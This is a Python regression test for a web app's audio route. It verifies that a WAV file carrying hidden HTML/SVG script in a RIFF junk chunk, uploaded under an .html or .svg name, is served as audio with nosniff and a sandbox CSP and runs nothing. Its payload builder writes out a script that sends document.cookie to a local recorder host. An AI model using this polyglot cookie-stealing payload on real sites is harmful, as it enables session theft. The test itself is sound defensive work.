"""Issue 9 item 2: script on the app's origin through the recording route.

A real WAV with ``<script>`` in a RIFF ``junk`` chunk, uploaded as minutes.html (or .svg), was served by
/m/<id>/audio as text/html / image/svg+xml without a CSP, so the script ran on the app's origin and
could read the form token. Now the type comes from the container (audio/wav), with nosniff and a sandbox
CSP, and Chromium opening the URL runs nothing.
"""

from __future__ import annotations

import shutil
import struct
import subprocess
import time
import wave
from pathlib import Path

import pytest

from .web_fault_support import Session, chromium, other_site, serving

pytestmark = [pytest.mark.slow, pytest.mark.browser]  # a real Whisper run per upload


def spoken_wav_with_script(path: Path, recorder: str) -> Path:
    """espeak-ng speech (a recording Whisper can transcribe) with markup hidden in a ``junk`` chunk."""
    if not shutil.which("espeak-ng"):
        pytest.skip("espeak-ng is missing: apt-get install -y espeak-ng")
    plain = path.with_suffix(".plain.wav")
    subprocess.run(["espeak-ng", "-v", "en", "-s", "150", "-w", str(plain),
                    "Anna: we agree to ship the order on Friday. Mark will send the contract."],
                   check=True, capture_output=True)
    data = plain.read_bytes()
    assert data[:4] == b"RIFF" and data[12:16] == b"fmt "
    fmt_end = 20 + struct.unpack("<I", data[16:20])[0]
    script = (f"<html><script>document.title='pwned';fetch('{recorder}/hit?c='+document.cookie)"
              f"</script><svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='pwned'\"/>"
              "</html>").encode()
    script += b" " * (len(script) % 2)
    body = data[12:fmt_end] + b"junk" + struct.pack("<I", len(script)) + script + data[fmt_end:]
    path.write_bytes(b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WAVE" + body)
    with wave.open(str(path)) as w:
        assert w.getnframes() > 0
    return path


def _upload(session: Session, path: Path, name: str) -> str:
    with path.open("rb") as fh:
        r = session.post("/new", {"title": name, "language": "en", "num_speakers": "1",
                                  "meeting_date": "2026-11-25"},
                         files={"file": (name, fh, "text/html")},
                         headers={"x-requested-with": "XMLHttpRequest"})
    assert r.status_code == 202, r.text
    job_url = r.json()["job_url"]
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        state = session.http.get(f"{job_url}/status").json()
        if state["status"] == "done":
            return str(state["meeting_id"])
        assert state["status"] != "failed", state
        time.sleep(0.5)
    raise AssertionError(f"the draft job for {name} did not finish")


def test_a_wav_named_html_or_svg_is_served_as_audio_and_runs_nothing(tmp_path: Path) -> None:
    hits: list[str] = []
    with chromium() as browser, other_site({}, record=hits) as recorder, serving(tmp_path) as server:
        wav = spoken_wav_with_script(tmp_path / "hostile.wav", recorder)
        session = Session(server.base)
        for name in ("minutes.html", "minutes.svg"):
            meeting_id = _upload(session, wav, name)
            url = f"{server.base}/m/{meeting_id}/audio"
            page = browser.new_page()
            page.goto(server.base + "/")  # the person's session: a script would see its cookie
            page.goto(url)
            page.wait_for_timeout(1500)
            assert page.title() != "pwned", f"the script in {name} ran on the app's origin"
            assert page.evaluate("() => document.querySelector('script') === null")
            page.close()
            r = session.http.get(url)
            assert r.status_code == 200
            assert r.headers["content-type"] == "audio/wav", (name, r.headers["content-type"])
            assert r.headers["x-content-type-options"] == "nosniff"
            assert r.headers["content-security-policy"].startswith("sandbox"), r.headers
            assert b"<script>" in r.content  # the bytes are served as they are, as audio

        session.close()
    assert not hits, f"a script in the recording phoned home: {hits}"
